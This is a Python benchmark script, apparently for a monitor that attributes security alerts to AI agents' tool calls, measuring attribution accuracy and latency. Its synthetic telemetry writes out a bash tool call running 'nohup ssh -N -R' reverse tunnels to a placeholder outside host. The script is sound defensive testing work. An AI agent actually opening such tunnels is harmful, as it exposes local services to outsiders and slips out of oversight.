"""Who did it: how often that is told rightly, and how long after the alert's arrival it stands.

    python -m benchmarks.attribution [alerts a second] [seconds]

Load: eight host agents whose runs make tool calls that open tunnels, each with its text, its shell (with
trace context) and its process; every alert is matched with a tool call. Then the labelled scenarios of
tests/scenarios, with real processes and a real host agent. A real web process and worker stand behind both.
The time is the server's: from a batch's arrival at the door until an attribution is written.
"""

import os
import sys
import time
import uuid
from http.client import HTTPConnection
from typing import Any

from benchmarks.ground import ground, percentile
from benchmarks.ingest import broker, worker

AGENTS, CALLS = 8, 5  # calls in a batch; each raises two alerts, of its text and of its process
MADE = """
SELECT extract(epoch FROM min(t.made_at) - a.received_at)
  FROM detection_alert a JOIN attribution_attribution t ON t.alert_id = a.id
 WHERE a.run_id IS NOT NULL GROUP BY a.id
"""


def main(rate: int, seconds: int) -> None:
    with ground() as home, broker(home):
        from tests.live import web
        from tests.scenarios.play import play, staged

        with web() as server, worker():
            waits, named = load(server.port, rate, seconds)
            folder = home / "scenarios" / "stage"
            folder.mkdir(parents=True)
            with staged(server, folder) as stage:
                outcomes = play(stage)
    lines = ["| scenario | so | concluded | strength | rests on |", "|---|---|---|---|---|"]
    for one in outcomes:
        so = "agent" if one.truth.agent else "not the agent"
        right = "" if one.right else " (WRONG)"
        lines.append(
            f"| {one.name} | {so} | {one.origin}{right} | {one.strength} | {', '.join(one.matchers)} |"
        )
    right = sum(one.right for one in outcomes)
    blamed = [one.name for one in outcomes if not one.truth.agent and one.origin == "model"]
    lines += [
        "",
        f"{right} of {len(outcomes)} told rightly (aim: all but one); blamed on the agent wrongly: "
        f"{', '.join(blamed) or 'none'}.",
        "",
        "| from the alert's arrival until its attribution, seconds | p50 | p95 | max |",
        "|---|---|---|---|",
        row("the scenarios", [one.seconds for one in outcomes]),
        row(f"{len(waits):,} alerts at {rate}/s, {named:.1%} of them with their own tool call", waits),
    ]
    print("\n".join(lines))


def row(name: str, waits: list[float]) -> str:
    figures = (percentile(waits, 0.5), percentile(waits, 0.95), max(waits))
    return f"| {name} | {' | '.join(f'{value:.3f}' for value in figures)} |"


def load(port: int, rate: int, seconds: int) -> tuple[list[float], float]:
    """How long each alert waited for its attribution, and how many were tied to their own tool call."""
    from apps.attribution.models import Attribution
    from apps.core.bulk import rows
    from apps.telemetry.models import Batch
    from tests.gateway.machine import Machine

    machines = [Machine.enrolled(f"bench-{number}") for number in range(AGENTS)]
    door = HTTPConnection("127.0.0.1", port)
    send(door, machines, [[start(machine)] for machine in machines])
    pause = CALLS * 2 / rate
    due = time.monotonic()
    for number in range(int(seconds * rate / (CALLS * 2))):
        machine = machines[number % AGENTS]
        send(door, [machine], [[record for call in range(CALLS) for record in story(machine, number, call)]])
        due += pause
        time.sleep(max(0.0, due - time.monotonic()))
    while Batch.objects.filter(state="pending").exists():
        time.sleep(0.05)
    current = Attribution.objects.filter(superseded_at=None, alert__process__isnull=False)
    told = current.values_list("alert__process__argv", "tool_call__arguments")
    named = sum(argv[-1] in (text or "") for argv, text in told)
    return [float(wait) for (wait,) in rows(MADE)], named / max(1, current.count())


def send(door: HTTPConnection, machines: list[Any], batches: list[list[dict[str, Any]]]) -> None:
    from hostagent.protocol import PATH_BATCHES

    for machine, records in zip(machines, batches, strict=True):
        body = machine.body(records)
        door.request("POST", PATH_BATCHES, body=body, headers=machine.headers(body))
        answer = door.getresponse()
        assert answer.status == 202, answer.read()
        answer.read()


def start(machine: Any) -> dict[str, Any]:
    name = f"run-{machine.agent.pk}"
    at = time.time()
    where = {"marker": name, "cgroup": f"/sentinel/{name}", "root_pid": 100, "root_start_ticks": 1}
    return {"kind": "run.start", "at": at, "run": name, **where}


def story(machine: Any, number: int, call: int) -> list[dict[str, Any]]:
    """One tool call, its shell and the tunnel that the shell starts."""
    from tests.gateway.working import otlp

    run, at, pid = f"run-{machine.agent.pk}", time.time(), 1000 + (number * CALLS + call) * 2
    trace, span = uuid.uuid4().hex, os.urandom(8).hex()
    argv = ["ssh", "-N", "-R", f"{pid}:127.0.0.1:8000", f"eve-{uuid.uuid4().hex[:12]}@198.51.100.7"]
    attributes = {
        "gen_ai.operation.name": "execute_tool",
        "gen_ai.tool.name": "bash",
        "gen_ai.tool.call.arguments": '{"command": "nohup ' + " ".join(argv) + ' &"}',
        "sentinel.episode": f"episode-{number}",
    }
    told = {
        "traceId": trace,
        "spanId": span,
        "name": "execute_tool bash",
        "startTimeUnixNano": str(int(at * 1e9)),
        "attributes": [otlp(key, value) for key, value in attributes.items()],
    }
    common = {"kind": "process.start", "at": at + 0.01, "cgroup": f"/sentinel/{run}", "marker": run}
    shell = {"pid": pid, "ppid": 100, "start_ticks": pid, "argv": ["bash", "-c", "x"]}
    tunnel = {"pid": pid + 1, "ppid": pid, "start_ticks": pid + 1, "argv": argv}
    return [
        {"kind": "span", "at": at, "run": run, "started_only": True, "span": told},
        common | shell | {"traceparent": f"00-{trace}-{span}-01"},
        common | tunnel,
    ]


if __name__ == "__main__":
    main(*(int(word) for word in [*sys.argv[1:], "200", "20"][:2]))
